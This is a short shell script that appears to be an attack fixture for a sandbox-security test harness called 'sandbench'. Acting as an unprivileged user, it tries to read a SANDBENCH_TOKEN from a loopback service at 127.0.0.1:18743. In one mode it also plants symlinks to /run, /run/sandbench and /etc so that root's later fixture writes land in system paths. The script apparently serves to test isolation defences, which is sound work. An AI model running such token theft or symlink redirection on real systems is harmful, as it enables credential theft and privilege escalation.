#!/bin/sh
# As the first benchmark user, before root lays the fixture in this home.
mode=$(cat /home/builder/source/attacks/mode)
[ "$mode" = none ] && { echo installed; exit 0; }
# Token theft: ask the loopback origin for release/x (a link to the agent's environment).
got=$(node -e '
const c = require("net").connect(18743, "127.0.0.1", () => c.write("GET /x HTTP/1.0\r\n\r\n"));
let d = Buffer.alloc(0);
c.on("data", b => { d = Buffer.concat([d, b]); });
c.on("end", () => process.stdout.write(d.toString("latin1").split("\0").join("\n")));
c.on("error", () => {});
' 2>/dev/null)
case "$got" in
  *SANDBENCH_TOKEN=*)
    touch "$HOME/.stolen"
    echo "stolen: $(printf '%s\n' "$got" | grep SANDBENCH_TOKEN=)"
    ;;
esac
if [ "$mode" = fixture ]; then
  # Root writes the fixture through these: into /run (chowning the socket folder to us), into
  # the host's socket folder itself, and into /etc.
  rm -rf "$HOME/.config" "$HOME/workspace" "$HOME/etc-link"
  ln -s /run "$HOME/.config"
  ln -s /run/sandbench "$HOME/workspace"
  ln -s /etc "$HOME/etc-link"
fi
echo installed
